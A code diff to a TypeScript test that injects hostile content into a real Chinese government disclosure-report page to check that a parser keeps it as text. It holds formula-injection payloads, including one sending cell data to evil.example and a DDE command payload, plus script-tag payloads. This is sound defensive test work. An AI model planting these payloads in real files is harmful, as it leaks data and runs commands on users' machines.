@@ -15,6 +15,7 @@ import { schemaErrors } from '../fuzz/invariants';
 
 const REAL = readFileSync(new URL('../fixtures/real/shuyang-fgj-2023.html', import.meta.url), 'utf8');
 const TITLE = '某某局2023年政府信息公开工作年度报告';
+const REAL_TITLE = '沭阳县发展和改革局2023年政府信息公开年度报告';
 
 /** written as text on the page (escaped markup): must come through as exactly this text */
 const CELL_PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+1', '-1+1', '@SUM(A1:A9)', '=cmd|\' /C calc\'!A0',
@@ -26,6 +27,13 @@ const TAGS_IN_PAYLOADS = new Set(['<script>', '</script>', '<img src=x onerror=a
 /** the real report with `titlePrefix` before its title (as a heading) and payloads in table 3's value cells */
 function hostilePage(titlePrefix: string): string {
   const $ = load(REAL);
+  // the page's own title and agency (metadata table 名称/发布机构, the scraper's 标题 line, its heading) are read
+  // before any <h1>: they take the hostile prefix too, as text
+  $('*').contents().each((_, n) => {
+    if (n.type === 'text') n.data = n.data.replaceAll(REAL_TITLE, titlePrefix + TITLE).replaceAll('沭阳县发展和改革局', `${titlePrefix}某某局`);
+  });
+  // the opening sentence names the agency across several runs of text: it goes
+  $('p').filter((_, p) => $(p).text().includes('现向社会公布')).text('根据《条例》要求，现公布本年度报告。');
   $('body').prepend($('<h1>').text(titlePrefix + TITLE));
   $('body').append(`<p>附注：${ELEMENTS}</p>`);
   const table3 = $('table').filter((_, t) => $(t).text().includes('本年新收'));
